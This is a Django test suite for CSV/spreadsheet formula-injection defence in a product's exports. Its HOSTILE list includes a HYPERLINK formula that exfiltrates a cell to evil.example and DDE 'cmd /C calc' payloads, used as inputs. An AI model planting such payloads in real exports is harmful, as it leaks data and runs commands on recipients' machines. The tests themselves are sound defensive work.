"""Every spreadsheet the product hands out goes through one writer
(``workflows.core.spreadsheets``): text that a spreadsheet program would take
for a formula (``=``, ``+``, ``-``, ``@``, tab, carriage return in front) is
written after a single quote, as text; numbers and dates stay numbers and
dates, a negative number included."""
from __future__ import annotations

import csv
import datetime as dt
import io
import re
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook

from tests import factories
from tests.conftest import campaign_at
from tests.enterprises.sheets import VI_HEADERS, csv_bytes
from tests.exports.helpers import prepared
from tests.factories import EnterpriseFactory
from workflows.campaigns import services as campaigns
from workflows.campaigns.flows import Stage
from workflows.core import clock, spreadsheets
from workflows.enterprises import services as enterprises
from workflows.enterprises.models import OwnershipSector

HOSTILE = (
    '=HYPERLINK("http://evil.example/?d="&D5,"Xem chi tiết")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
#: Text a spreadsheet program reads as a number, never as a formula.
NUMBER_TEXT = re.compile(r"[+-]?\d[\d.,]*%?")


@pytest.fixture(autouse=True)
def in_english_on_a_known_day(settings):
    settings.LANGUAGE_CODE = "en"
    with clock.travel_to(dt.date(2026, 6, 1)), translation.override("en"):
        yield


def hostile_unit(world, text):
    """A district whose name is ``text``, with the world's supervisor over it."""
    unit = factories.unit(name=text, code="hostile", kind="district_federation", parent=world.province,
                          actor=world.admin)
    factories.grant(unit, world.supervisor, "supervisor", actor=world.admin)
    return unit


def hostile_enterprise(unit, text):
    return EnterpriseFactory(responsible_unit=unit, name=text, address=text, commune=text, province=text,
                             industrial_zone=text, industry=text, ownership_sector=OwnershipSector.FDI,
                             workforce=120, workforce_as_of=dt.date(2025, 12, 31))


class _File:
    """A prepared export's download, read whole (``cells`` takes it like a response)."""

    streaming = False

    def __init__(self, response, content: bytes):
        self.status_code, self.content = response.status_code, content


def committee(world, client, text, capture):
    campaign = campaign_at(world, Stage.MOBILISING_COMMITTEE, enterprise=hostile_enterprise(world.district, text))
    campaigns.campaign_committee_record(campaign_id=campaign.pk, actor=world.officer, members=[
        campaigns.CommitteeMemberData(text, text, text[:20], True)])
    client.force_login(world.officer)
    return client.get(reverse("campaigns:committee_export", args=[campaign.pk]))


def registry(world, client, text, capture):
    hostile_enterprise(hostile_unit(world, text), text)
    client.force_login(world.manager)
    return _File(*prepared(client, capture, "registry"))


def rejected_rows(world, client, text, capture):
    # Every cell hostile; the tax code's check digit is wrong, so the row is rejected.
    batch = enterprises.import_upload(actor=world.supervisor, unit=world.district, file_name="ds.csv",
                                      content=csv_bytes([VI_HEADERS, [text, text, "0300588560", *[text] * 8]]))
    client.force_login(world.supervisor)
    return client.get(reverse("enterprises:import_rejected", args=[batch.pk]))


def report(fmt):
    def export(world, client, text, capture):
        hostile_unit(world, text)
        client.force_login(world.manager)
        return _File(*prepared(client, capture, f"report_{fmt}", {"year": "2026"}))
    return export


#: Every export, and how many of its cells hold the hostile text.
EXPORTS = {
    "committee": (committee, "xlsx", 4),  # the enterprise; the member's name, job and phone
    "registry": (registry, "xlsx", 7),  # six text fields and the responsible unit
    "rejected rows": (rejected_rows, "xlsx", 10),  # every cell but the tax code
    "report (xlsx)": (report("xlsx"), "xlsx", 1),  # the unit's name
    "report (csv)": (report("csv"), "csv", 1),
}


def cells(response, kind) -> list[tuple[str, object]]:
    """(data type, value) of every cell of the file."""
    content = b"".join(response.streaming_content) if response.streaming else response.content
    if kind == "csv":
        rows = csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";")
        return [("s", value) for row in rows for value in row if value]
    book = load_workbook(io.BytesIO(content))
    return [(cell.data_type, cell.value) for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
            if cell.value is not None]


@pytest.mark.parametrize("text", HOSTILE, ids=repr)
@pytest.mark.parametrize("export", EXPORTS)
def test_no_export_holds_a_formula_whatever_people_typed(client, world, export, text,
                                                        django_capture_on_commit_callbacks):
    make, kind, hostile_cells = EXPORTS[export]

    response = make(world, client, text, django_capture_on_commit_callbacks)

    assert response.status_code == 200
    found = cells(response, kind)
    assert [value for data_type, value in found if data_type == "f"] == []
    texts = [value for data_type, value in found if isinstance(value, str)]
    assert [value for value in texts
            if value.startswith(spreadsheets.FORMULA_STARTS) and not NUMBER_TEXT.fullmatch(value)] == []
    neutralised = [value for value in texts if value.startswith("'")]
    assert len(neutralised) == hostile_cells
    phone = {text[:20].strip()} if export == "committee" else set()  # a phone number holds 20 characters
    assert {value[1:].strip() for value in neutralised} == {text.strip(), *phone}


def test_numbers_and_dates_stay_numbers_and_dates():
    book = spreadsheets.Spreadsheet()
    sheet = book.sheet("x")
    sheet.append([-182, 1331, Decimal("0.5545"), dt.date(2025, 12, 31), "-3", "#N/A", "=1+1\x07", None, "x"],
                 formats=(spreadsheets.INTEGER, None, spreadsheets.PERCENT))

    row = next(load_workbook(io.BytesIO(book.content())).active.iter_rows())

    assert [(cell.data_type, cell.value) for cell in row] == [
        ("n", -182), ("n", 1331), ("n", 0.5545), ("d", dt.datetime(2025, 12, 31)), ("s", "-3"), ("s", "#N/A"),
        ("s", "'=1+1"), ("n", None), ("s", "x")]
    assert [cell.number_format for cell in row[:4]] == ["#,##0", "General", "0.00%", "DD/MM/YYYY"]


def test_the_csv_writes_numbers_as_officers_read_them_and_text_neutralised():
    with translation.override("vi"):
        text = spreadsheets.csv_text([[-182, 6500, Decimal("0.5545"), dt.date(2025, 12, 31), "-3", "@x", "\t=1"]],
                                     formats=(None, None, spreadsheets.PERCENT))

    assert text == "\ufeff-182;6.500;55,45%;31/12/2025;-3;'@x;'\t=1\r\n"


def test_what_the_writer_neutralises_the_importer_reads_back():
    for text in (*HOSTILE, "-3", "'quoted", "Công ty A"):
        assert spreadsheets.text_restored(spreadsheets.text_neutralised(text)) == text
